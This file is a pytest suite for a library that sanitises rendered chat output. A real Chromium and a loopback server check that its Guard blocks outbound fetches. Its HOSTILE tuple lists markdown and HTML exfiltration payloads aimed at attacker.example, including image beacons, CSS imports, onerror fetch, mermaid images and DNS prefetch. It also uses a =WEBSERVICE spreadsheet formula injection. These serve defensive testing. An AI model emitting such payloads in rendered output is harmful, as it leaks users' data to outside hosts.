@@ -1,0 +1,205 @@
+"""What a browser really fetches when rendered output is shown (E5).
+
+A real Chromium, the renderers of chat clients on one page, and a loopback server that stands for every host of the
+world: the browser resolves all names to it and its proxy-less requests land there, so a request for any host is seen.
+Run `scripts/browser-deps.sh` first; without what it installs these tests are skipped.
+"""
+
+# ruff: noqa: E501 -- tables of payloads read better unbroken
+from __future__ import annotations
+
+import csv
+import http.server
+import shutil
+import ssl
+import subprocess
+import threading
+import zipfile
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from lockgate.render import Guard, RenderPolicy
+
+HERE = Path(__file__).parent
+BUNDLE = HERE / "node_modules" / ".page.js"
+CHROMIUM = shutil.which("chromium")
+CMARK = shutil.which("cmark-gfm")
+OFFICE = shutil.which("soffice")
+playwright = pytest.importorskip("playwright.sync_api", reason="run scripts/browser-deps.sh")
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.timeout(300),
+    pytest.mark.skipif(not (CHROMIUM and CMARK and BUNDLE.exists()), reason="run scripts/browser-deps.sh"),
+]
+PIXEL = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f64540"
+    "0000000049454e44ae426082"
+)
+LINK = "https://wiki.partner.example/a"
+IMAGE = "https://img.partner.example/pub/a.png"
+
+
+@dataclass
+class World:
+    """The one server; `seen` holds (host, path) of every request."""
+
+    port: int
+    seen: list[tuple[str, str]] = field(default_factory=list)
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    folder = tmp_path_factory.mktemp("tls")
+    subprocess.run(
+        ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj", "/CN=world", "-keyout", str(folder / "k"), "-out", str(folder / "c")],
+        check=True, capture_output=True,
+    )  # fmt: skip
+    made = World(0)
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            made.seen.append((self.headers.get("Host", "").split(":")[0], self.path))
+            page = self.path == "/page"
+            body = b"<!doctype html><meta charset=utf-8><body></body>" if page else PIXEL
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html" if page else "image/png")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815
+
+        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(folder / "c", folder / "k")
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+    made.port = server.server_port
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield made
+    server.shutdown()
+    thread.join(10)
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def page(world: World) -> Iterator[Any]:
+    with playwright.sync_playwright() as api:
+        browser = api.chromium.launch(
+            executable_path=CHROMIUM,
+            args=[
+                "--no-sandbox",
+                "--ignore-certificate-errors",
+                f"--host-resolver-rules=MAP * 127.0.0.1:{world.port}",
+                "--disable-background-networking",
+                "--disable-component-update",
+            ],
+        )
+        opened = browser.new_context(ignore_https_errors=True).new_page()
+        opened.goto("https://app.example/page", wait_until="load")
+        opened.add_script_tag(path=str(BUNDLE))
+        opened.wait_for_function("window.ready === true")
+        world.seen.clear()
+        yield opened
+        browser.close()
+
+
+def show(
+    page: Any, world: World, markdown: str, html: str, wait: float = 250
+) -> tuple[list[tuple[str, str]], list[str]]:
+    """Draw with every renderer; return the requests that were made and the URLs that are live."""
+    world.seen.clear()
+    assert CMARK is not None
+    extensions = ["-e", "table", "-e", "strikethrough", "-e", "autolink", "-e", "tasklist"]
+    cmark = subprocess.run(
+        [CMARK, "--unsafe", *extensions], input=markdown, capture_output=True, text=True, check=True, timeout=20
+    )
+    live = page.evaluate("([text, cmark, html]) => window.show(text, cmark, html)", [markdown, cmark.stdout, html])
+    page.wait_for_timeout(wait)
+    return [one for one in world.seen if one[1] != "/favicon.ico"], live
+
+
+HOSTILE = (
+    "![x](https://attacker.example/a.png?d=S)",
+    "![r]\n\n[r]:\nhttps://attacker.example/?d=S\n'title'",
+    "[![x](https://attacker.example/i)](https://wiki.partner.example/a)",
+    "x[^1]\n\n[^1]: ![x](https://attacker.example/f)",
+    "|a|\n|-|\n|![x](https://attacker.example/t)|",
+    "![x](//attacker.example/p) ![x](/\\\\attacker.example/q) ![x](https://img.partner.example@attacker.example/pub/a)",
+    "<img src=https://attacker.example/h><img srcset='https://attacker.example/s 1x'><video poster=https://attacker.example/v></video>",
+    "<p style='background:url(https://attacker.example/c)'>x</p><style>@import 'https://attacker.example/i.css';</style>",
+    "<link rel=stylesheet href=//attacker.example/l><link rel=dns-prefetch href=//secret.attacker.example><link rel=preload as=image href=//attacker.example/q>",
+    "<svg><image href='https://attacker.example/g' width=9 height=9 /></svg><math href=https://attacker.example>x</math>",
+    "<iframe src=https://attacker.example/if></iframe><object data=https://attacker.example/ob></object><embed src=https://attacker.example/em>",
+    "<img src=x onerror=\"new Image().src='https://attacker.example/js'\"><meta http-equiv=refresh content='0;url=https://attacker.example/m'>",
+    '```mermaid\ngraph LR\nA["<img src=\'https://attacker.example/m1\'>"]-->B\nclick A "https://attacker.example"\n```',
+    '```mermaid\ngraph TD\nA@{ img: "https://attacker.example/m2", label: "x", w: 60, h: 60 }\n```',
+    "`` ` `` ![x](https://attacker.example/`) `|` ![y](https://attacker.example/y)",
+    "![x](https://img.partner.example/pub/a.png?d=S) ![y](https://img.partner.example/pub/../b.png)",
+    "![a*b](https://attacker.example/n '\"><img src=//attacker.example/z>')",
+    "https://attacker.example/auto www.attacker.com a@attacker.example [x](javascript:fetch('//attacker.example')) <https://attacker.example>",
+)  # fmt: skip
+POLICY = RenderPolicy.of(links=["https://wiki.partner.example/*"], images=["https://img.partner.example/pub/*"])
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_is_fetched_and_nothing_is_live(page: Any, world: World, text: str) -> None:
+    guard = Guard(POLICY)
+    requests, live = show(page, world, guard.markdown(text).text, guard.html(text).text)
+    assert requests == []
+    assert set(live) <= {LINK}
+
+
+def test_the_allowed_image_really_loads(page: Any, world: World) -> None:
+    """Positive control: the server sees the image of the allowed path, once drawn by each renderer."""
+    text = f"![chart]({IMAGE}) and [page]({LINK})"
+    guard = Guard(POLICY)
+    requests, live = show(page, world, guard.markdown(text).text, guard.html(text).text, wait=700)
+    assert ("img.partner.example", "/pub/a.png") in requests
+    assert set(live) == {IMAGE, LINK}
+    assert page.evaluate("[...document.images].every(image => image.naturalWidth === 1)")
+
+
+def test_the_unguarded_page_fetches(page: Any, world: World) -> None:
+    """Negative control: the same payloads shown as they came do reach the server, so it is not deaf."""
+    reached = sum(bool(show(page, world, text, text, wait=120)[0]) for text in HOSTILE[:5] + HOSTILE[6:8])
+    assert reached >= 5
+
+
+@pytest.mark.skipif(OFFICE is None, reason="run scripts/browser-deps.sh")
+def test_spreadsheet_cells_are_words_in_libreoffice(tmp_path: Path) -> None:
+    """Formulas that an unguarded cell would calculate stay words; the control shows that LibreOffice does calculate."""
+    cells = ["=1+1", "+2+3", "@SUM(1)", '=WEBSERVICE("http://127.0.0.1:9/x")', "plain", "-5"]
+    (tmp_path / "safe.csv").write_text(Guard(POLICY).csv([[cell] for cell in cells]).text)
+    with (tmp_path / "raw.csv").open("w", newline="") as file:
+        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([[cell] for cell in cells])
+    assert OFFICE is not None
+    subprocess.run(
+        [OFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(tmp_path / "safe.csv"), str(tmp_path / "raw.csv")],
+        check=True, capture_output=True, timeout=150,
+    )  # fmt: skip
+
+    def sheet(name: str) -> str:
+        with zipfile.ZipFile(tmp_path / f"{name}.xlsx") as archive:
+            return archive.read("xl/worksheets/sheet1.xml").decode()
+
+    assert "<f" in sheet("raw")
+    assert "<f" not in sheet("safe")
+
+
+def test_no_hint_to_look_a_name_up_is_left(page: Any, world: World) -> None:
+    """DNS prefetch leaks a label without any request: no element that could ask for one reaches the page."""
+    text = "x <link rel=dns-prefetch href=//secret.attacker.example><link rel=preconnect href=//b.attacker.example> y"
+    hints = "document.querySelectorAll('section link, section meta, section base, section [ping]').length"
+    guard = Guard(POLICY)
+    show(page, world, guard.markdown(text).text, guard.html(text).text)
+    assert page.evaluate(hints) == 0
+    show(page, world, text, text)
+    assert page.evaluate(hints) > 0  # the control: unguarded they are there
